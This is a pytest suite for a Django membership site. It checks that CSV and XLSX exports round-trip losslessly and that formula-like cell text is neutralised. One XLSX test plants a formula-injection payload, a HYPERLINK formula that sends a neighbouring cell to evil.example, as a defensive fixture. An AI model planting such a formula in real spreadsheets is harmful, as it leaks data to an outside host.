"""Export then import gives back every value, formula-like text included (`+86 …` phones,
`=SUM(…)`, `-`, `@…`), while neither export hands a spreadsheet a formula."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from cms.admin_listing import safe_cell, unguard_cell
from members.importing import import_organisations
from members.models import Market, Organisation, SalesPlatform

pytestmark = pytest.mark.django_db

TRICKY = {
    "name_en": "=SUM(A1:A9) Trading Co., Ltd.",
    "phone": "+86 730 8123456",
    "wechat": "@yueyang_tea",
    "main_products": "-",
    "address": "'+1 Harbour Road",  # an apostrophe of its own before a guarded character
    "website": "https://tea.example.cn/",
    "email": "sales@tea.example.cn",
    "phone_visibility": "hidden",
    "email_visibility": "public",
    "staff_band": "50-199",
    "trade_band": "100m-1b",
    "founded_year": 1998,
}
COMPARED = [*TRICKY, "name", "city", "industry_id", "secretariat_id"]


def values(company):
    company = Organisation.objects.select_related("membership").get(pk=company.pk)
    membership = company.membership
    return (
        {name: getattr(company, name) for name in COMPARED},
        sorted(company.export_markets.values_list("code", flat=True)),
        sorted(company.platforms.values_list("slug", flat=True)),
        (membership.tier, membership.status, membership.term_start, membership.term_end),
    )


@pytest.fixture
def company(make_organisation):
    company = make_organisation(name="往返测试有限公司", **TRICKY)
    company.export_markets.set(Market.objects.filter(code__in=["US", "JP"]))
    company.platforms.set(SalesPlatform.objects.filter(slug__in=["amazon", "temu"]))
    return company


def export(client, kind):
    response = client.get(reverse("members_organisations:index"), {"export": kind, "q": "往返测试"})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def scramble(company):
    Organisation.objects.filter(pk=company.pk).update(
        name_en="", phone="", wechat="", main_products="", address="", phone_visibility="public"
    )
    company.export_markets.clear()
    company.membership.tier = "president"
    company.membership.save()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_then_import_is_lossless(client, organiser, company, kind):
    before = values(company)
    client.force_login(organiser)
    exported = export(client, kind)
    scramble(company)
    assert values(company) != before
    upload = SimpleUploadedFile(f"member-companies.{kind}", exported)
    [row] = import_organisations(upload=upload, by=organiser)
    assert row.outcome == "updated", row.errors
    assert values(company) == before

    # And once more: importing the same export again changes nothing.
    [row] = import_organisations(upload=SimpleUploadedFile(f"again.{kind}", exported), by=organiser)
    assert row.unchanged and values(company) == before


def test_csv_export_keeps_its_formula_guard(client, organiser, company):
    client.force_login(organiser)
    text = export(client, "csv").decode("utf-8-sig")
    assert "'+86 730 8123456" in text and "'=SUM(A1:A9)" in text and "'@yueyang_tea" in text
    assert "''+1 Harbour Road" in text


def test_xlsx_export_writes_formula_like_text_as_quoted_text_cells(client, organiser, company):
    company.main_products = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
    company.save()
    client.force_login(organiser)
    sheet = load_workbook(io.BytesIO(export(client, "xlsx"))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in ("+86 730 8123456", "=SUM(A1:A9) Trading Co., Ltd.", "@yueyang_tea"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    formula = cells['=HYPERLINK("http://evil.example/?"&B2,"点击")']
    assert formula.data_type == "s" and formula.quotePrefix  # text, never a formula


@pytest.mark.parametrize(
    "text", ["+86 730 1", "=1+1", "-", "@x", "'=x", "''+y", "'plain", "plain", "", "\t1"]
)
def test_unguard_undoes_exactly_the_guard(text):
    assert unguard_cell(safe_cell(text)) == text
